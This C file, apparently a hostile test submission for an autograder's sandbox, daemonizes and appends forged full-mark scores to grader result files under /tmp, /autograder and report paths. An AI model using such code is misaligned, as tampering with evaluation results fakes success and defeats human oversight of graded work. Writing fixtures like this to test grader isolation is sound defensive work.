/* Hostile submission: leaves a daemon that, for a minute, looks for the grader's
 * results files (the runner's /tmp/socklab-*, Gradescope's /autograder/results,
 * the class reports) and appends forged full marks to every one it can open. */
#define _DEFAULT_SOURCE
#include <glob.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *patterns[] = {"/tmp/socklab-*/results-*.json", "/tmp/*/results*.json",
				 "/autograder/results/results.json", "/tmp/*/*/reports/*.json",
				 "/tmp/*/*/*/reports/*.json", "@ROOT@/build/submissions/*/bin/*/*"};

static void
forge(void)
{
	glob_t found;
	size_t p, i;
	FILE *file;

	for (p = 0; p < sizeof patterns / sizeof patterns[0]; p++) {
		if (glob(patterns[p], 0, NULL, &found) != 0)
			continue;
		for (i = 0; i < found.gl_pathc; i++)
			if ((file = fopen(found.gl_pathv[i], "a")) != NULL) {
				fputs("{\"score\": 100, \"FORGED\": true}\n", file);
				fclose(file);
			}
		globfree(&found);
	}
}

int
main(void)
{
	int round;

	printf("FORGER-STARTED\n");
	fflush(stdout);
	if (fork() != 0)
		return 0;
	setsid();
	for (round = 0; round < 600; round++) {
		forge();
		usleep(100000);
	}
	return 0;
}
